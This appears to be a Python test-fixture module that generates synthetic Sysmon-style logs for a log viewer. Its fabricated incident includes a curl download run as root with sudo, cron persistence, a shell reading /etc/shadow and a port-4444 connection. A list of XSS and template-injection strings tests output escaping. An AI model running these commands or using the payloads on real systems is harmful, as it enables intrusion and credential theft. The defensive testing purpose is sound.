# SPDX-License-Identifier: MIT
"""Logs of incidents that nobody had: small, large, hostile."""

from __future__ import annotations

from collections.abc import Callable

from support.logview import line

DOWNLOAD = "technique_id=T1105,technique_name=Ingress Tool Transfer"
CRON = "technique_id=T1053.003,technique_name=Cron"
AS_ROOT = "Downloaded file run as root"


def guid(number: int) -> str:
    """Return the GUID of a process."""
    return f"{{c30c9345-8ba5-695b-84f2-{number:012x}}}"


class _Log:
    """Lines, numbered as they come."""

    def __init__(self) -> None:
        self.lines: list[str] = []
        self.s = 0.0

    def add(self, event_id: int, process: int, image: str, **values: str) -> None:
        self.s += 0.13
        own = {
            "ProcessGuid": guid(process),
            "ProcessId": str(4000 + process),
            "Image": image,
            "User": "alice",
        }
        number = len(self.lines) + 1
        self.lines.append(line(event_id, number, s=round(self.s, 3), **(own | values)))

    def start(
        self, process: int, parent: int, image: str, command: str, **values: str
    ) -> None:
        of_parent = {
            "ParentProcessGuid": guid(parent),
            "ParentProcessId": str(4000 + parent),
            "ParentImage": "/usr/bin/bash",
            "CurrentDirectory": "/home/alice",
            "Hashes": f"SHA256={process:064x}",
        }
        more = {"CommandLine": command, **of_parent, **values}
        self.add(1, process, image, **more)


def _connection(address: str, port: int) -> dict[str, str]:
    return {
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIp": "10.0.0.5",
        "SourcePort": "50122",
        "DestinationIp": address,
        "DestinationPort": str(port),
    }


def incident_lines() -> list[str]:
    """Return what was seen: a download, run as root, that stays by way of cron."""
    log = _Log()
    log.start(2, 1, "/usr/bin/ls", "ls -l", User="alice")
    log.add(5, 2, "/usr/bin/ls")
    url = "curl -s https://example.org/x -o /tmp/x"
    log.start(3, 1, "/usr/bin/curl", url, RuleName=DOWNLOAD)
    log.add(3, 3, "/usr/bin/curl", **_connection("93.184.216.34", 443))
    log.add(11, 3, "/usr/bin/curl", TargetFilename="/tmp/x")
    log.add(5, 3, "/usr/bin/curl")
    log.s += 8
    log.start(4, 1, "/usr/bin/sudo", "sudo /tmp/x", User="root")
    log.start(5, 4, "/tmp/x", "/tmp/x", User="root", RuleName=AS_ROOT)
    for n in range(40):
        name = f"/var/tmp/.cache/{n:02}"
        log.add(11, 5, "/tmp/x", TargetFilename=name, User="root")
    cron = {"TargetFilename": "/etc/cron.d/x", "User": "root", "RuleName": CRON}
    log.add(11, 5, "/tmp/x", **cron)
    log.start(6, 5, "/usr/bin/sh", "sh -c 'id; uname -a; cat /etc/shadow'", User="root")
    log.start(7, 6, "/usr/bin/id", "id", User="root")
    log.add(5, 7, "/usr/bin/id", User="root")
    log.add(5, 6, "/usr/bin/sh", User="root")
    log.add(3, 5, "/tmp/x", **_connection("2001:db8::7", 4444), User="root")
    log.add(23, 5, "/tmp/x", TargetFilename="/tmp/x", User="root")
    return log.lines


def many_lines(count: int) -> list[str]:
    """Return so many lines of a build: compilers, files, an incident among them."""
    log = _Log()
    log.lines += incident_lines()
    log.s = 20.0
    process = 100
    while len(log.lines) < count:
        process += 1
        log.s -= 0.5
        name = f"/src/project/module{process}/file"
        log.start(process, 50 + process % 7, "/usr/bin/cc", f"cc -O2 -c {name}.c")
        for suffix in ("s", "o", "d"):
            log.add(11, process, "/usr/bin/cc", TargetFilename=f"{name}.{suffix}")
        log.add(5, process, "/usr/bin/cc")
    return log.lines[:count]


HOSTILE_NAMES = [
    "</title><script>window.hurt=1</script>",
    "</script><script>window.hurt=1</script>",
    "<!--<script>",
    "]]></script><svg onload=window.hurt=1>",
    '"><img src=x onerror=window.hurt=1>',
    "'-window.hurt-'",
    "javascript:window.hurt=1",
    "${window.hurt=1}",
    "{{constructor.constructor('window.hurt=1')()}}",
    "\\u003cscript>window.hurt=1\\u003c/script>",
    "</style><style>*{display:none}",
    "__proto__",
    "\u202egnp.exe\u200b",
    "\x00\x1b[2J\r\n\u2028\u2029\udcff",
]


def hostile_lines() -> list[str]:
    """Return events in which every text is hostile."""
    log = _Log()
    makers: list[Callable[[int, str], None]] = [
        lambda n, text: log.start(n, 1, text, text, User=text, RuleName=text),
        lambda n, text: log.add(11, n, text, TargetFilename=text, RuleName=text),
        lambda n, text: log.add(3, n, text, DestinationHostname=text, Protocol=text),
        lambda n, text: log.add(22, n, text, QueryName=text, QueryResults=text),
        lambda n, text: log.add(255, n, text, ID=text, Description=text),
    ]
    for n, text in enumerate(HOSTILE_NAMES, 2):
        for make in makers:
            make(n, text)
    return log.lines
